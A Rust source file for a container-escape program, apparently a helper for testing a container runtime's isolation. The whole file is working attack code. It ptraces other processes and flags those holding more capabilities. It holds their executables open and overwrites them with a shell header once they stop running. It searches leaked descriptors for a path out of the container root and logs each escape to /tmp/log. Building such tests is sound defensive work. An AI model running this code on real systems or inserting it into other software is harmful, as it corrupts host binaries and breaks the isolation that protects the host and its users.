//! A process of a container that wants out.
//!
//! It traces whatever others it may, and notes which of them may more than it may itself. It holds open the program of every other process that it meets and writes to it once nobody executes it any
//! more, and looks for a descriptor of any other process that leads out of the container's root. What it achieved
//! goes to `/tmp/log`. It ends when `/tmp/stop` is there.
//!
//! The first argument is a file on the host, as an absolute path, that can't be seen from inside.

use std::collections::BTreeMap;
use std::fs::{self, File, OpenOptions};
use std::io::Write;
use std::os::fd::{AsRawFd, OwnedFd};
use std::path::Path;

use coble_sys::ptrace::{self, Change};
use rustix::fs::{Mode, OFlags, open, openat};

/// How often one program is held, so that descriptors don't run out.
const HOLDS: usize = 4;

struct Attacker {
    log: File,
    outside: String,
    held: BTreeMap<String, Vec<OwnedFd>>,
    traced: Vec<String>,
}

fn main() {
    let outside = std::env::args().nth(1).expect("a file on the host");
    let log = OpenOptions::new().create(true).append(true).open("/tmp/log").expect("a log");
    let up = "../".repeat(32);
    let outside = format!("{up}{}", outside.trim_start_matches('/'));
    let mut attacker = Attacker { log, outside, held: BTreeMap::new(), traced: Vec::new() };
    attacker.note("ready");
    while !Path::new("/tmp/stop").exists() {
        for pid in others() {
            attacker.trace(&pid);
            attacker.hold_program(&pid);
            attacker.try_descriptors(&pid);
        }
        let_go_on();
        attacker.write_programs();
    }
}

/// Process ids of everybody else.
fn others() -> Vec<String> {
    let me = std::process::id().to_string();
    let Ok(entries) = fs::read_dir("/proc") else { return Vec::new() };
    let names = entries.flatten().filter_map(|entry| entry.file_name().into_string().ok());
    names.filter(|name| name.starts_with(|c: char| c.is_ascii_digit()) && *name != me).collect()
}

/// Lets everybody go on who has stopped because they are traced.
fn let_go_on() {
    while let Ok(Some((pid, change))) = ptrace::next_change() {
        let _ = match change {
            Change::Exited(_) | Change::Killed(_) => Ok(()),
            Change::Signal(signal) => ptrace::go_on(pid, signal),
            Change::Stopped => ptrace::stay(pid),
            Change::Call | Change::Traced => ptrace::go_on(pid, 0),
        };
    }
}

/// A member of `/proc/PID/status`.
fn status(pid: &str, member: &str) -> String {
    let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    let value = status.lines().find_map(|line| line.strip_prefix(member)?.strip_prefix(":\t"));
    value.unwrap_or_default().to_owned()
}

/// What a process may, one bit each.
fn rights(pid: &str) -> u64 {
    u64::from_str_radix(&status(pid, "CapPrm"), 16).unwrap_or_default()
}

impl Attacker {
    /// Whoever is traced does whatever the tracer wants.
    fn trace(&mut self, pid: &str) {
        if pid.parse().map(ptrace::trace).is_ok_and(|traced| traced.is_ok()) {
            let line = match rights(pid) & !rights("self") {
                0 => format!("traced {}", status(pid, "Name")),
                _ => "traced one that may more".to_owned(),
            };
            if !self.traced.contains(&line) {
                self.note(&line);
                self.traced.push(line);
            }
        }
    }

    fn note(&mut self, line: &str) {
        writeln!(self.log, "{line}").expect("the log");
    }

    fn hold_program(&mut self, pid: &str) {
        let flags = OFlags::PATH | OFlags::CLOEXEC;
        let Ok(program) = open(format!("/proc/{pid}/exe"), flags, Mode::empty()) else { return };
        let name = fs::read_link(format!("/proc/self/fd/{}", program.as_raw_fd()));
        let Ok(name) = name.map(|name| name.to_string_lossy().into_owned()) else { return };
        // The tools of the container itself must go on working.
        if name == "/bin/busybox" {
            return;
        }
        if !self.held.contains_key(&name) {
            self.note(&format!("saw {name}"));
        }
        let held = self.held.entry(name).or_default();
        if held.len() < HOLDS {
            held.push(program);
        }
    }

    fn write_programs(&mut self) {
        let mut written = Vec::new();
        for (name, programs) in &self.held {
            for program in programs {
                let path = format!("/proc/self/fd/{}", program.as_raw_fd());
                let file = OpenOptions::new().write(true).open(path);
                if file.is_ok_and(|mut file| file.write_all(b"#!/bin/sh\n").is_ok()) {
                    written.push(name.clone());
                    break;
                }
            }
        }
        for name in written {
            self.note(&format!("wrote {name}"));
            self.held.insert(name, Vec::new());
        }
    }

    fn try_descriptors(&mut self, pid: &str) {
        let Ok(entries) = fs::read_dir(format!("/proc/{pid}/fd")) else { return };
        for path in entries.flatten().map(|entry| entry.path()) {
            let flags = OFlags::RDONLY | OFlags::DIRECTORY | OFlags::CLOEXEC;
            let Ok(folder) = open(&path, flags, Mode::empty()) else { continue };
            let found =
                openat(&folder, &self.outside, OFlags::PATH | OFlags::CLOEXEC, Mode::empty());
            if found.is_ok() {
                let way = fs::read_link(&path).unwrap_or_default();
                self.note(&format!("escaped through {}: {}", path.display(), way.display()));
            }
        }
    }
}
